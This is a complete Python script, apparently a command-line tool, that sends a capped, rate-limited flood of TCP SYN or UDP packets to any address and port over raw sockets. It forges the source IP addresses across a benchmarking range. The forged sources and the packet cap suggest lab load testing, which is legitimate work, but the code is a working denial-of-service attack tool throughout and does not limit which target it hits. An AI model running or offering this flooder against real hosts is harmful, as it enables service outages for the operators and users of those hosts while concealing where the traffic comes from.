#!/usr/bin/env python3
"""A bounded flood of SYN or UDP from spoofed clients. Prints how many packets it has sent.

  flood.py syn|udp ADDRESS PORT PACKETS PACKETS_A_SECOND

Sources are 198.18.0.3 to .250 with ports from 1024 on, each pair once.
"""
import socket
import struct
import sys
import time

kind, address, port, packets, rate = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
to = socket.inet_aton(address)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(n):
    source = socket.inet_aton(f"198.18.0.{3 + n % 248}")
    sport = 1024 + n // 248
    if kind == "syn":
        proto = socket.IPPROTO_TCP
        l4 = struct.pack("!HHIIBBHHH", sport, port, n, 0, 5 << 4, 2, 29200, 0, 0)
        pseudo = source + to + struct.pack("!BBH", 0, proto, len(l4))
        l4 = l4[:16] + struct.pack("!H", checksum(pseudo + l4)) + l4[18:]
    else:
        proto = socket.IPPROTO_UDP
        l4 = struct.pack("!HHHH", sport, port, 12, 0) + b"none"
    # The kernel fills in length, identification and checksum.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, proto, 0) + source + to + l4


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
start = time.monotonic()
sent = 0
while sent < packets:
    due = min(packets, int((time.monotonic() - start) * rate))
    for n in range(sent, due):
        try:
            sock.sendto(packet(n), (address, 0))
        except BlockingIOError:
            pass
    sent = max(sent, due)
    time.sleep(0.002)
print(sent)
